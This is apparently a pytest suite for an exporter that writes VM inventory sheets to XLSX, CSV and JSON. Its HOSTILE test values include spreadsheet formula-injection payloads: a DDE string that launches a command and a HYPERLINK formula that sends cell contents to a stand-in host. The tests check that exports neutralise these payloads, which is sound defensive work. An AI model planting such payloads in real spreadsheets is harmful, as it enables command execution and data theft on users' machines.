"""What the files are to the programs that open them."""

import csv
import io
import json
import re
import zipfile
from datetime import UTC, datetime, timedelta, timezone
from xml.etree import ElementTree as ET

import pytest
from openpyxl import load_workbook

from exporters.workbook.catalogue import workbook
from exporters.workbook.csv_files import csv_bytes, csv_zip
from exporters.workbook.json_document import json_document
from exporters.workbook.sheet import Cell, Sheet
from exporters.workbook.xlsx import LONGEST_TEXT, xlsx
from tests.exporters.workbook.inventory_world import FULL, NOW

HOSTILE = (
    '=HYPERLINK("http://example.test/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "http://example.test/",
    "007",
    "1e5",
    'Rødgrød <med> & "fløde"',
    "line\nline",
    "_x000D_",
    "bell\x07",
)


def sheet_of(*values: Cell) -> Sheet:
    return Sheet(name="vInfo", headers=("VM",), rows=tuple((value,) for value in values))


def read_back(sheet: Sheet) -> list[object]:
    page = load_workbook(io.BytesIO(xlsx([sheet], NOW)))[sheet.name]
    return [page.cell(number, 1).value for number in range(2, len(sheet.rows) + 2)]


def test_the_whole_workbook_reads_back_cell_by_cell() -> None:
    sheets = workbook(FULL, NOW)
    book = load_workbook(io.BytesIO(xlsx(sheets, NOW)))
    assert book.sheetnames == [sheet.name for sheet in sheets]
    for sheet in sheets:
        page = book[sheet.name]
        assert [cell.value for cell in page[1]] == list(sheet.headers)
        for expected, found in zip(sheet.rows, page.iter_rows(min_row=2, values_only=True), strict=False):
            bare = [value.replace(tzinfo=None) if isinstance(value, datetime) else value for value in expected]
            assert list(found) == bare


def test_every_page_has_its_header_frozen_and_a_filter_over_all_its_rows() -> None:
    book = load_workbook(io.BytesIO(xlsx(workbook(FULL, NOW), NOW)))
    page = book["vInfo"]
    assert page.freeze_panes == "B2"
    assert page.auto_filter.ref == page.dimensions
    assert page["A1"].font.bold
    assert {book[name].freeze_panes for name in book.sheetnames} == {"B2"}


def test_numbers_truths_and_times_are_what_they_are_and_unknown_is_an_empty_cell() -> None:
    moment = datetime(2026, 11, 24, 9, 30, 15, 999_999, tzinfo=timezone(timedelta(hours=1)))
    found = read_back(sheet_of(0, 2.5, True, False, moment, None, "0"))
    assert found == [0, 2.5, True, False, datetime(2026, 11, 24, 8, 30, 15), None, "0"]  # noqa: DTZ001 - a cell has no zone
    page = load_workbook(io.BytesIO(xlsx([sheet_of(moment)], NOW)))["vInfo"]
    assert page["A2"].is_date
    assert page["A2"].number_format == "yyyy-mm-dd hh:mm:ss"


def test_a_number_that_a_cell_cannot_hold_exactly_is_text() -> None:
    assert read_back(sheet_of(2**53, 2**63 - 1)) == [2**53, "9223372036854775807"]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_name_is_only_ever_text_in_a_workbook(name: str) -> None:
    data = xlsx([Sheet(name="vInfo", headers=(name,), rows=((name,),))], NOW)
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        page = ET.fromstring(parts.read("xl/worksheets/sheet1.xml"))
        assert [name for name in parts.namelist() if "rels" in name and "sheet1" in name] == [], "no links"
    assert [element for element in page.iter() if element.tag.endswith("}f")] == [], "no formula"
    cells = load_workbook(io.BytesIO(data))["vInfo"]
    assert (cells["A1"].data_type, cells["A2"].data_type) == ("s", "s")
    if name.isprintable() and not name.startswith("_"):
        assert cells["A2"].value == name


def test_a_text_that_is_too_long_for_a_cell_is_cut_and_says_so() -> None:
    (found,) = read_back(sheet_of("x" * 40_000))
    assert isinstance(found, str)
    assert (len(found), found[-1]) == (LONGEST_TEXT, "…")


@pytest.mark.parametrize("name", HOSTILE)
def test_a_name_is_no_formula_to_a_program_that_opens_csv(name: str) -> None:
    ((found,),) = list(csv.reader(io.StringIO(csv_bytes(sheet_of(name)).decode("utf-8-sig"), newline="")))[1:]
    assert found in (name, f"'{name}")
    assert not re.match(r"\s*[=+\-@]", found)


def test_csv_has_numbers_as_they_are_and_times_in_utc() -> None:
    text = csv_bytes(sheet_of(-1, 2.5, True, NOW, None, "a,b")).decode("utf-8-sig")
    assert text == 'VM\r\n-1\r\n2.5\r\nTrue\r\n2026-11-24 08:00:00\r\n""\r\n"a,b"\r\n'


def test_the_zip_has_a_file_a_tab() -> None:
    sheets = workbook(FULL, NOW)
    with zipfile.ZipFile(io.BytesIO(csv_zip(sheets, NOW))) as archive:
        assert archive.namelist() == [f"{sheet.name}.csv" for sheet in sheets]
        assert archive.read("vInfo.csv") == csv_bytes(sheets[0])
        assert archive.testzip() is None


def test_json_has_a_list_of_rows_a_tab_with_unknown_as_null() -> None:
    document = json.loads(json_document(workbook(FULL, NOW)))
    row = document["vInfo"][1]
    assert (row["VM"], row["CPUs"], row["Template"], row["CBT"]) == ("skole-db01", 8, False, None)
    assert row["PowerOn"] == "2026-10-14T07:59:53Z"
    assert datetime.fromisoformat(row["PowerOn"]).astimezone(UTC) == NOW - timedelta(days=41, seconds=7)


def test_the_same_world_gives_the_same_file() -> None:
    sheets = workbook(FULL, NOW)
    assert xlsx(sheets, NOW) == xlsx(sheets, NOW)
    assert csv_zip(sheets, NOW) == csv_zip(sheets, NOW)
